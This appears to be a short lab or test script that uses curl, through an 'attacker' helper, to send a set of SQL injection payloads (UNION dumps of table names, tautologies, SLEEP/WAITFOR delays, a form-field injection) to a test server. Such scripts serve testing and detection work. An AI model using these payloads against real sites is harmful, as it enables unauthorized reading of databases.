# SQL injection by hand, with a browser's agent: union, tautology, waiting, table names, and in a form.
# packages: curl nginx-light python3
web=(curl -s -G -A 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0')
from attacker "${web[@]}" --data-urlencode "id=1 UNION ALL SELECT name,sql FROM sqlite_master--" http://$SERVER/app/tin
from attacker "${web[@]}" --data-urlencode "id=1' OR '1'='1" http://$SERVER/app/tin
from attacker "${web[@]}" --data-urlencode "id=1 OR 1=1" http://$SERVER/app/tin
from attacker "${web[@]}" --data-urlencode "id=1; WAITFOR DELAY '0:0:5'--" http://$SERVER/app/tin
from attacker "${web[@]}" --data-urlencode "id=1 AND SLEEP(5)" http://$SERVER/app/tin
from attacker "${web[@]}" --data-urlencode "id=1 UNION SELECT table_name,1 FROM information_schema.tables" http://$SERVER/app/tin
from attacker curl -s --data-urlencode "username=x' UNION SELECT 1,2 FROM users-- " -d "ghi_chu=1" -A 'Mozilla/5.0 Firefox/115.0' http://$SERVER/app/gop-y
